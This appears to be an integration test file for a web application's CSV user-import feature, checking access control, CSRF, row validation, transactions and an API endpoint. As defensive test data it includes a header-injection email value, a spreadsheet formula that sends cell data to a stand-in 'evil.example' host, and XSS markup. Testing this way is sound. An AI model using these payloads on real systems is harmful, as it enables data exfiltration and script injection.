import type { Express } from "express";
import supertest from "supertest";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Db } from "../../src/db/index.ts";
import { countUsers, findUserByUsername } from "../../src/repositories/users/index.ts";
import { SYSTEM_ACTOR } from "../../src/services/audit.ts";
import { addLdapServer } from "../../src/services/ldap-settings.ts";
import type { MailOutbox } from "../../src/services/mail-outbox.ts";
import { makeTeam, rowCount } from "../helpers/access.ts";
import { signedInAgent, TestAgent } from "../helpers/agent.ts";
import { createTestApiToken } from "../helpers/api-tokens.ts";
import { databaseState, injectFault, removeAllFaults } from "../helpers/faults.ts";
import { errorSummary, h1, labelText, pageText, tableRows } from "../helpers/html.ts";
import { FIXTURE_USERS, settingsFor, skipLdapTests, TestDirectory } from "../helpers/ldap.ts";
import { configureSmtp, type ReceivedMail, type TestMailServer, testKeys, useAppWithMail } from "../helpers/mail.ts";
import { attemptSignIn, auditEvents } from "../helpers/sign-in.ts";
import { insertTestAdmin, insertTestUser } from "../helpers/users.ts";

/**
 * Importing users from a CSV file (docs/domain.md, "Importing users"), over HTTP against the real app, database and
 * an SMTP server in this process: every bad file is refused whole with its problems by line and nothing is written;
 * a good file creates every account, its teams and the invitations; the API answers the same in JSON.
 */

let db: Db;
let app: Express;
let mailOutbox: MailOutbox;
let mailServer: TestMailServer;

useAppWithMail(
  (parts) => {
    ({ db, app, mailOutbox, mailServer } = parts);
  },
  { configure: false },
);

const INVITATION_SUBJECT = "[AUTH] Gatehouse: set your password";
const NEW_PASSWORD = "lighthouse keeper breakfast 93";

type Res = { status: number; text: string; headers: Record<string, string> };

async function signedInAdmin(): Promise<TestAgent> {
  const admin = await insertTestAdmin(db, { username: "root" });
  return signedInAgent(app, admin);
}

/** Sends the import form as a browser does: the token first, then Check only, then the file. */
async function upload(agent: TestAgent, file: string | Buffer, options: { checkOnly?: boolean; csrf?: boolean } = {}): Promise<Res> {
  const token = await agent.refreshToken("/admin/users/import");
  const request = agent.http.post("/admin/users/import").set("Accept", "text/html");
  if (options.csrf !== false) request.field("_csrf", token);
  if (options.checkOnly) request.field("checkOnly", "on");
  return request.attach("csvFile", Buffer.isBuffer(file) ? file : Buffer.from(file, "utf8"), { filename: "users.csv", contentType: "text/csv" });
}

/** The "Line n: …" items of the page's list of problems. */
function problemsOn(html: string): string[] {
  const list = /<ul class="import-problems">([\s\S]*?)<\/ul>/.exec(html)?.[1] ?? "";
  return [...list.matchAll(/<li>([\s\S]*?)<\/li>/g)].map((m) => pageText(m[1] ?? ""));
}

async function teamNamesOf(username: string): Promise<string[]> {
  const rows = await db("team_members as m")
    .join("teams as t", "t.id", "m.team_id")
    .join("users as u", "u.id", "m.user_id")
    .whereRaw("u.username_key = lower(?)", [username])
    .orderBy("t.name")
    .select("t.name");
  return rows.map((r: { name: string }) => r.name);
}

/** The reset link of an invitation, and the code its fragment carries. */
function invitationLink(mail: ReceivedMail): { link: URL; code: string; username: string } {
  const match = /(https?:\/\/\S+\/login#\S+)/.exec(mail.text);
  if (!match?.[1]) throw new Error(`no link in: ${mail.text}`);
  const link = new URL(match[1]);
  const params = new URLSearchParams(link.hash.slice(1));
  return { link, code: params.get("reset") ?? "", username: params.get("username") ?? "" };
}

/** Signs in with a code or temporary password as the password; it leads to Choose a new password, then back in with that. */
async function chooseFirstPassword(username: string, code: string): Promise<void> {
  const agent = new TestAgent(app);
  const res = await attemptSignIn(agent, username, code);
  expect(res.status, `sign-in of ${username} with its code`).toBe(303);
  expect(res.headers.location).toBe("/login/new-password");
  await agent.refreshToken("/login/new-password");
  const chosen = await agent.post("/login/new-password", { newPassword: NEW_PASSWORD, confirmPassword: NEW_PASSWORD });
  expect(chosen.status).toBe(303);
  const again = await attemptSignIn(new TestAgent(app), username, NEW_PASSWORD);
  expect(again.status).toBe(303);
}

describe("the import page", () => {
  it("is linked from Users as Import, and has CSV file, Check only and the Import button", async () => {
    const agent = await signedInAdmin();
    const list = await agent.get("/admin/users");
    expect(list.text).toMatch(/<a href="\/admin\/users\/import"[^>]*>Import<\/a>/);
    const page = await agent.get("/admin/users/import");
    expect(page.status).toBe(200);
    expect(h1(page.text)).toBe("Import users");
    expect(labelText(page.text, "csvFile")).toBe("CSV file");
    expect(labelText(page.text, "checkOnly")).toBe("Check only");
    expect(page.text).toMatch(/<input id="csvFile" name="csvFile" type="file"/);
    expect(page.text).toMatch(/enctype="multipart\/form-data"/);
    expect(page.text).toMatch(/<button type="submit">Import<\/button>/);
  });

  it("docs/security.md A3: a user who is not an administrator gets 403 for the page and the upload, and nothing is imported", async () => {
    const user = await insertTestUser(db, { username: "plain" });
    const agent = await signedInAgent(app, user);
    expect((await agent.get("/admin/users/import")).status).toBe(403);
    const before = await countUsers(db);
    const res = await agent.http
      .post("/admin/users/import")
      .set("Accept", "text/html")
      .field("_csrf", await agent.refreshToken("/profile"))
      .attach("csvFile", Buffer.from("username\nsneaky\n"), { filename: "u.csv", contentType: "text/csv" });
    expect(res.status).toBe(403);
    expect(await countUsers(db)).toBe(before);
  });

  it("docs/security.md S2: without the CSRF token, or from another site, the upload is refused with 403 and nothing is imported", async () => {
    const agent = await signedInAdmin();
    const before = await countUsers(db);
    const noToken = await upload(agent, "username\nimp001\n", { csrf: false });
    expect(noToken.status).toBe(403);
    const token = await agent.refreshToken("/admin/users/import");
    const crossSite = await agent.http
      .post("/admin/users/import")
      .set("Accept", "text/html")
      .set("Origin", "https://evil.example")
      .set("Sec-Fetch-Site", "cross-site")
      .field("_csrf", token)
      .attach("csvFile", Buffer.from("username\nimp001\n"), { filename: "u.csv", contentType: "text/csv" });
    expect(crossSite.status).toBe(403);
    expect(await countUsers(db)).toBe(before);
  });

  it("docs/security.md A4, A15: a field the form does not have, or Check only sent twice, is refused with 400 and nothing is imported", async () => {
    const agent = await signedInAdmin();
    const before = await countUsers(db);
    for (const extra of [
      ["isAdmin", "on"],
      ["checkOnly", "on"],
    ] as const) {
      const token = await agent.refreshToken("/admin/users/import");
      const res = await agent.http
        .post("/admin/users/import")
        .set("Accept", "text/html")
        .field("_csrf", token)
        .field("checkOnly", "on")
        .field(extra[0], extra[1])
        .attach("csvFile", Buffer.from("username\nimp001\n"), { filename: "u.csv", contentType: "text/csv" });
      expect(res.status).toBe(400);
    }
    expect(await countUsers(db)).toBe(before);
  });

  it("without a file, asks for one and keeps Check only as it was", async () => {
    const agent = await signedInAdmin();
    const token = await agent.refreshToken("/admin/users/import");
    const res = await agent.http.post("/admin/users/import").set("Accept", "text/html").field("_csrf", token).field("checkOnly", "on");
    expect(res.status).toBe(422);
    expect(errorSummary(res.text)?.text).toContain("Choose a CSV file to import.");
    expect(res.text).toMatch(/id="checkOnly" name="checkOnly" type="checkbox"[^>]* checked/);
  });
});

describe("a bad file is refused whole: a clear error, nothing imported", () => {
  const cases: [string, () => string | Buffer, string][] = [
    ["an empty file", () => "", "The file is empty"],
    ["a header only", () => "username,email\r\n", "The file has no rows to import"],
    ["no username column", () => "full name,email\nAda,ada@example.test\n", "The file has no username column"],
    ["an unknown column", () => "username,department,shoe size\nada,ops,41\n", 'The file has unknown columns "department", "shoe size"'],
    ["50,001 rows", () => `username\n${Array.from({ length: 50_001 }, (_, i) => `bulk${i}`).join("\n")}\n`, "The file has more than 50,000 rows"],
    ["11 MB", () => Buffer.concat([Buffer.from("username,full name\n"), Buffer.alloc(11 * 1024 * 1024, "x")]), "The file is larger than 10 MB"],
    ["bytes that are not UTF-8 (Latin-1)", () => Buffer.from([...Buffer.from("username,full name\nrene,Ren"), 0xe9, 0x0a]), "The file is not valid UTF-8 text"],
    ["an unclosed quote", () => 'username,full name\nada,"Ada\n', "a quoted value is never closed"],
  ];
  for (const [what, file, message] of cases) {
    it(`${what}: "${message}", the form again, and no account`, async () => {
      const agent = await signedInAdmin();
      const before = await countUsers(db);
      const res = await upload(agent, file());
      expect(res.status).toBe(422);
      expect(errorSummary(res.text)?.text).toContain(message);
      expect(res.text).toMatch(/<input id="csvFile" name="csvFile" type="file"[^>]*aria-invalid="true"/);
      expect(await countUsers(db)).toBe(before);
    });
  }

  it("docs/security.md L3, A9, A10, A11, E6, E7: lists every bad row by line and field, in line order, and imports none of the good ones", async () => {
    await makeTeam(db, "Storage");
    await insertTestUser(db, { username: "imp001" });
    const agent = await signedInAdmin();
    const before = await countUsers(db);
    const file = [
      "username,full name,email,teams,authentication", // line 1
      "IMP001,Clash in another case,,,", // 2: docs/security.md L3, A9
      "ada,Ada Lovelace,ada@example.test,storage,local", // 3: good
      "grace,Grace Hopper,not-an-address,,", // 4: E7
      "linus,Linus,,Ops;storage,", // 5
      "ｉｍｐ００４,Fullwidth,,,", // 6
      "mallory,Mallory,\"m@example.test\r\nBcc: x@evil.test\",,", // 7-8: E6
      "imp004,Duplicate of line 6,,,", // 9
      `${"u".repeat(65)},Too long,,,`, // 10: A10
      "nul,Null\u0000byte,,,", // 11: A11
      "rtl,Right\u202eto left,,,", // 12: A11
      "kerberos,Kerberos,,,sso", // 13
      "ada2,Ada again,ADA@example.test,,", // 14
    ].join("\n");
    const res = await upload(agent, file);
    expect(res.status).toBe(422);
    expect(errorSummary(res.text)?.text).toContain("Nothing was imported: the file has 10 problems.");
    expect(problemsOn(res.text)).toEqual([
      "Line 2: username IMP001 already exists as imp001 (names are compared without regard to case, width or surrounding spaces).",
      'Line 4: email "not-an-address" is not a valid address: Enter an email address like name@example.com.',
      'Line 5: team "Ops" does not exist.',
      'Line 7: email "m@example.test Bcc: x@evil.test" is not a valid address: Email cannot contain control, invisible or direction-changing characters.',
      "Line 9: username imp004 appears twice in the file (also line 6).",
      "Line 10: Username must be at most 64 characters; this one has 65.",
      "Line 11: Full name contains a character that cannot be stored.",
      "Line 12: Full name cannot contain direction-changing characters.",
      'Line 13: authentication must be "local" or "ldap"; this one is "sso".',
      "Line 14: email ADA@example.test appears twice in the file (also line 3); each account needs its own address.",
    ]);
    expect(await countUsers(db)).toBe(before);
    expect(await findUserByUsername(db, "ada")).toBeUndefined();
    expect(await auditEvents(db, "user.imported")).toEqual([]);
  });

  it("shows the first 1,000 problems and says how many there are", async () => {
    const agent = await signedInAdmin();
    const rows = Array.from({ length: 1_200 }, (_, i) => `user${i},,not-an-address`);
    const res = await upload(agent, `username,full name,email\n${rows.join("\n")}\n`);
    expect(res.status).toBe(422);
    expect(errorSummary(res.text)?.text).toContain("the file has 1,200 problems");
    expect(errorSummary(res.text)?.text).toContain("The first 1,000 are listed.");
    const listed = problemsOn(res.text);
    expect(listed).toHaveLength(1_000);
    expect(listed[0]).toMatch(/^Line 2: /);
    expect(listed.at(-1)).toMatch(/^Line 1001: /);
  });

  it("an address another account already uses is refused, without regard to case (docs/security.md E7)", async () => {
    await insertTestUser(db, { username: "owner", email: "taken@example.test" });
    const agent = await signedInAdmin();
    const res = await upload(agent, "username,email\nnewcomer,TAKEN@example.test\n");
    expect(problemsOn(res.text)).toEqual(["Line 2: email TAKEN@example.test is already used by the account owner."]);
  });
});

describe("a good file", () => {
  const FILE = [
    "\uFEFFUsername ; Full Name;EMAIL;title;phone;Teams;authentication",
    'imp001;"Lovelace; Ada";imp001@example.test;"Analyst, ""first""";+44 20;"storage; backup";local',
    'imp002;Grace Hopper;;;;"storage\nbackup";',
    "imp003;Dir Ectory;;;;;LDAP",
  ].join("\r\n");

  it("Check only: BOM, semicolons, quoted delimiters and line breaks are read; says how many would be imported and writes nothing", async () => {
    await makeTeam(db, "Storage");
    await makeTeam(db, "backup");
    const agent = await signedInAdmin();
    const before = await countUsers(db);
    const res = await upload(agent, FILE, { checkOnly: true });
    expect(res.status).toBe(200);
    expect(pageText(res.text)).toContain("3 accounts would be imported (2 local, 1 LDAP)");
    expect(res.text).toMatch(/id="checkOnly" name="checkOnly" type="checkbox"[^>]* checked/);
    expect(await countUsers(db)).toBe(before);
  });

  it("without mail: creates every account with no password and an unverified email, joins the teams, and lists who needs a temporary password", async () => {
    await makeTeam(db, "Storage");
    await makeTeam(db, "backup");
    const agent = await signedInAdmin();
    const before = await countUsers(db);
    const res = await upload(agent, FILE);
    expect(res.status).toBe(200);
    expect(h1(res.text)).toBe("Imported 3 accounts");
    expect(await countUsers(db)).toBe(before + 3);
    const ada = await db("users").where({ username: "imp001" }).first();
    expect(ada).toMatchObject({
      full_name: "Lovelace; Ada",
      title: 'Analyst, "first"',
      email: "imp001@example.test",
      email_verified: false,
      phone: "+44 20",
      auth_source: "local",
      password_hash: null,
      is_admin: false,
    });
    expect(await db("users").where({ username: "imp003" }).first()).toMatchObject({ auth_source: "ldap", external_id: null, password_hash: null });
    expect(await teamNamesOf("imp001")).toEqual(["Storage", "backup"]);
    expect(await teamNamesOf("imp002")).toEqual(["Storage", "backup"]);
    const text = pageText(res.text);
    expect(text).toContain("Accounts that need a temporary password");
    expect(text).toContain("Issue temporary password");
    const section = /<section aria-labelledby="temporary-heading">([\s\S]*?)<\/section>/.exec(res.text)?.[1] ?? "";
    expect([...section.matchAll(/<li><a href="\/admin\/users\/\d+">([^<]+)<\/a>/g)].map((m) => m[1])).toEqual(["imp001", "imp002"]);
    expect(tableRows(res.text).map((row) => row[0])).toEqual(["imp001", "imp002", "imp003"]);

    // The temporary password of the user page opens the account, and leads to choosing a password.
    const id = (await db("users").where({ username: "imp002" }).first()).id;
    await agent.refreshToken(`/admin/users/${id}`);
    const issued = await agent.post(`/admin/users/${id}/temporary-password`);
    expect(issued.status).toBe(200);
    const temporary = /([A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4})/.exec(pageText(issued.text))?.[1] ?? "";
    await chooseFirstPassword("imp002", temporary);
  });

  it("writes one user.imported event with the counts, a user.created per account and a team.member_added per membership", async () => {
    await makeTeam(db, "Storage");
    await makeTeam(db, "backup");
    const agent = await signedInAdmin();
    await upload(agent, FILE);
    const [imported, ...more] = await auditEvents(db, "user.imported");
    expect(more).toEqual([]);
    expect(imported?.actorUsername).toBe("root");
    expect(imported?.details).toMatchObject({ rows: 3, local: 2, ldap: 1, invitationsSent: 0, withoutInvitation: 2, teamsJoined: 4 });
    expect((await auditEvents(db, "user.created")).map((e) => e.targetLabel).sort()).toEqual(["imp001", "imp002", "imp003"]);
    expect(await auditEvents(db, "team.member_added")).toHaveLength(4);
  });

  it("an imported local account cannot be signed into with an empty or a guessed password", async () => {
    const agent = await signedInAdmin();
    await upload(agent, "username\nimp010\n");
    const res = await attemptSignIn(new TestAgent(app), "imp010", "anything at all 12345");
    expect(res.status).toBe(401);
    expect((await auditEvents(db, "sign_in.failed")).at(0)?.details).toMatchObject({ reason: "no_password" });
  });

  it("docs/security.md A12, D8: a formula or markup in a name is stored exactly as written and shown escaped", async () => {
    const agent = await signedInAdmin();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const markup = '<script>alert(1)</script>"><svg onload=alert(2)>';
    const res = await upload(agent, `username,full name,title\nformula,"${formula.replaceAll('"', '""')}","${markup.replaceAll('"', '""')}"\n`);
    expect(res.status).toBe(200);
    const row = await db("users").where({ username: "formula" }).first();
    expect(row.full_name).toBe(formula);
    expect(row.title).toBe(markup);
    expect(res.text).not.toContain("<script>alert(1)");
    expect(tableRows(res.text)[0]?.[1]).toBe(formula);
    const page = await agent.get(`/admin/users/${row.id}`);
    expect(page.text).not.toContain("<script>alert(1)");
    expect(page.text).not.toContain("<svg onload");
    expect(page.text).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("with mail: each local account with an address is emailed a code valid 72 hours that leads to choosing a password", async () => {
    await configureSmtp(db, mailServer);
    const agent = await signedInAdmin();
    const res = await upload(agent, "username,email\nimp001,imp001@example.test\nimp002,\n");
    expect(res.status).toBe(200);
    expect(pageText(res.text)).toContain("1 invitation to choose a password emailed (valid 72 hours)");
    expect(pageText(res.text)).toContain("Accounts that need a temporary password");
    await mailOutbox.drain();
    const mail = await mailServer.waitFor((m) => m.subject === INVITATION_SUBJECT);
    expect(mail.envelopeTo).toEqual(["imp001@example.test"]);
    expect(mail.text).toContain("valid for 72 hours");
    const { link, code, username } = invitationLink(mail);
    expect(link.origin + link.pathname).toBe("http://127.0.0.1/login");
    expect(username).toBe("imp001");
    const [reset] = await db("password_resets")
      .join("users", "users.id", "password_resets.user_id")
      .where("users.username", "imp001")
      .select(db.raw("extract(epoch FROM password_resets.expires_at - password_resets.created_at) AS seconds"));
    expect(Number(reset.seconds)).toBe(72 * 3600);
    // Still good after 71 hours.
    await db("password_resets").update({ created_at: db.raw("created_at - interval '71 hours'"), expires_at: db.raw("expires_at - interval '71 hours'") });
    expect((await findUserByUsername(db, "imp001"))?.emailVerified).toBe(false);
    await chooseFirstPassword("imp001", code);
  });

  it("with mail: an invitation is dead after 72 hours", async () => {
    await configureSmtp(db, mailServer);
    const agent = await signedInAdmin();
    await upload(agent, "username,email\nimp001,imp001@example.test\n");
    await mailOutbox.drain();
    const { code } = invitationLink(await mailServer.waitFor((m) => m.subject === INVITATION_SUBJECT));
    await db("password_resets").update({ created_at: db.raw("created_at - interval '73 hours'"), expires_at: db.raw("expires_at - interval '73 hours'") });
    const res = await attemptSignIn(new TestAgent(app), "imp001", code);
    expect(res.status).toBe(401);
  });
});

describe("one transaction (docs/security.md §4)", () => {
  afterEach(async () => {
    await removeAllFaults();
  });

  const FILE = "username,email,teams\nimp001,imp001@example.test,storage\nimp002,,storage\nimp003,imp003@example.test,\n";

  for (const [code, status, words] of [
    ["40001", 409, "Another change got in the way of this one; nothing was saved. Try again."],
    ["57P01", 503, "The service is temporarily unavailable. Try again in a moment."],
  ] as const) {
    it(`a database error (${code}) at the import's last write leaves nothing behind: ${status}, no mail; the retry imports it all`, async () => {
      await configureSmtp(db, mailServer);
      await makeTeam(db, "Storage");
      const agent = await signedInAdmin();
      const before = await databaseState(db);
      const fault = await injectFault(db, { table: "audit_events", on: "INSERT", when: "NEW.action = 'user.imported'", code });
      const failed = await upload(agent, FILE);
      expect(await fault.fired()).toBe(1);
      expect(failed.status).toBe(status);
      expect(pageText(failed.text)).toContain(words);
      // A 409 is the form again, to send the file once more; a 503 is the error page, as for every form.
      if (status === 409) expect(failed.text).toMatch(/<input id="csvFile" name="csvFile" type="file"/);
      expect(await databaseState(db)).toEqual(before);
      await mailOutbox.drain();
      expect(mailServer.messages).toHaveLength(0);

      await fault.remove();
      const retry = await upload(agent, FILE);
      expect(retry.status).toBe(200);
      expect(h1(retry.text)).toBe("Imported 3 accounts");
      expect(await rowCount(db, "password_resets")).toBe(2);
      await mailOutbox.drain();
      expect(mailServer.messages.map((m) => m.envelopeTo[0]).sort()).toEqual(["imp001@example.test", "imp003@example.test"]);
    });
  }

  it("the same file sent twice at once imports once; the other answer lists the names as taken", async () => {
    const admin = await insertTestAdmin(db, { username: "root" });
    const agent = await signedInAgent(app, admin);
    const second = await signedInAgent(app, admin);
    const [a, b] = await Promise.all([upload(agent, FILE.replace(/,storage/g, ",")), upload(second, FILE.replace(/,storage/g, ","))]);
    expect([a.status, b.status].sort()).toEqual([200, 422]);
    const refused = a.status === 422 ? a : b;
    // The check reads names and addresses in parallel statements: when the other import commits between them, the
    // first problem found is the address (of the same account) rather than the name; either names what is taken.
    expect(problemsOn(refused.text)[0]).toMatch(/^Line 2: (username imp001 already exists\.|email imp001@example\.test is already used by the account imp001\.)$/);
    expect(await rowCount(db, "users")).toBe(4);
    expect(await auditEvents(db, "user.imported")).toHaveLength(1);
  });
});

describe("POST /api/v1/users/import", () => {
  async function adminToken(): Promise<string> {
    const admin = await insertTestAdmin(db, { username: "root" });
    return createTestApiToken(db, admin);
  }

  function post(token: string, body: string | Buffer, query = "", contentType = "text/csv") {
    return supertest(app).post(`/api/v1/users/import${query}`).set("Authorization", `Bearer ${token}`).set("Content-Type", contentType).send(body);
  }

  it("201 with the accounts; 200 with wouldImport for checkOnly=true, writing nothing", async () => {
    await makeTeam(db, "Storage");
    const token = await adminToken();
    const before = await countUsers(db);
    const checked = await post(token, "username;teams\napi1;storage\napi2;\n", "?checkOnly=true");
    expect(checked.status).toBe(200);
    expect(checked.body).toEqual({ wouldImport: 2, local: 2, ldap: 0 });
    expect(await countUsers(db)).toBe(before);
    const res = await post(token, "username;teams\napi1;storage\napi2;\n");
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ imported: 2, invitationsSent: 0, teamsJoined: 1, needTemporaryPassword: ["api1", "api2"] });
    expect(res.body.accounts.map((a: { username: string; teams: string[] }) => [a.username, a.teams])).toEqual([
      ["api1", ["Storage"]],
      ["api2", []],
    ]);
    expect(await countUsers(db)).toBe(before + 2);
    const [event] = await auditEvents(db, "user.imported");
    expect(event?.details).toMatchObject({ rows: 2, viaApiToken: expect.any(Number) });
  });

  it("400 with every problem by line and field, in the API's error envelope, and nothing imported", async () => {
    await insertTestUser(db, { username: "imp001" });
    const token = await adminToken();
    const before = await countUsers(db);
    const res = await post(token, "username,teams\nIMP001,\nnew1,Ops\nnew1,\n");
    expect(res.status).toBe(400);
    expect(res.body.error).toEqual({ code: "import_rejected", message: "Nothing was imported: the file has 3 problems.", total: 3 });
    expect(res.body.errors).toEqual([
      { line: 2, field: "username", message: expect.stringMatching(/^username IMP001 already exists as imp001/) },
      { line: 3, field: "teams", message: 'team "Ops" does not exist.' },
      { line: 4, field: "username", message: "username new1 appears twice in the file (also line 3)." },
    ]);
    expect(await countUsers(db)).toBe(before);
  });

  it("file-wide problems: empty, not UTF-8, and 11 MB (413), each a clear message; nothing imported", async () => {
    const token = await adminToken();
    const before = await countUsers(db);
    const empty = await post(token, "");
    expect(empty.status).toBe(400);
    expect(empty.body.errors).toEqual([{ line: null, field: "file", message: expect.stringContaining("The file is empty") }]);
    const latin1 = await post(token, Buffer.from([...Buffer.from("username\nren"), 0xe9, 0x0a]));
    expect(latin1.body.errors[0].message).toContain("The file is not valid UTF-8 text");
    const large = await post(token, Buffer.alloc(11 * 1024 * 1024, "a"));
    expect(large.status).toBe(413);
    expect(large.body.error.message).toContain("The file is larger than 10 MB");
    expect(await countUsers(db)).toBe(before);
  });

  it("415 for a body that is not text/csv; 403 for a token of someone who is not an administrator", async () => {
    const token = await adminToken();
    const json = await post(token, JSON.stringify({ username: "x" }), "", "application/json");
    expect(json.status).toBe(415);
    const user = await insertTestUser(db, { username: "plain" });
    const userToken = await createTestApiToken(db, user);
    const forbidden = await post(userToken, "username\nsneaky\n");
    expect(forbidden.status).toBe(403);
    expect(await findUserByUsername(db, "sneaky")).toBeUndefined();
  });

  it("is described in the OpenAPI document with a text/csv body", async () => {
    const doc = (await supertest(app).get("/api/v1/openapi.json")).body;
    const op = doc.paths["/users/import"].post;
    expect(op.operationId).toBe("importUsers");
    expect(Object.keys(op.requestBody.content)).toEqual(["text/csv"]);
    expect(Object.keys(op.responses)).toEqual(expect.arrayContaining(["200", "201", "400", "413", "415"]));
  });
});

describe.skipIf(skipLdapTests)("an imported LDAP account against a real directory", () => {
  let directory: TestDirectory;
  beforeAll(async () => {
    directory = await TestDirectory.start();
  });
  afterAll(async () => {
    await directory?.close();
  });
  beforeEach(async () => {
    if (!directory.running) await directory.restart();
  });

  it("is linked to its directory entry at the first LDAP sign-in (creation off), keeping what the file said", async () => {
    await addLdapServer(db, SYSTEM_ACTOR, testKeys, settingsFor(directory));
    await makeTeam(db, "Storage");
    const agent = await signedInAdmin();
    const res = await upload(agent, "username,full name,teams,authentication\nBob,Robert from the file,storage,ldap\n");
    expect(res.status).toBe(200);
    const signIn = await attemptSignIn(new TestAgent(app), "bob", FIXTURE_USERS.bob.password);
    expect(signIn.status).toBe(303);
    const row = await db("users").where({ username_key: "bob" }).first();
    expect(row.external_id).toBe(await directory.entryUuid(FIXTURE_USERS.bob.dn));
    expect(row.full_name).toBe("Robert from the file");
    expect(await teamNamesOf("bob")).toEqual(["Storage"]);
    expect((await auditEvents(db, "user.linked_to_directory")).map((e) => e.targetLabel)).toEqual(["Bob"]);
  });
});
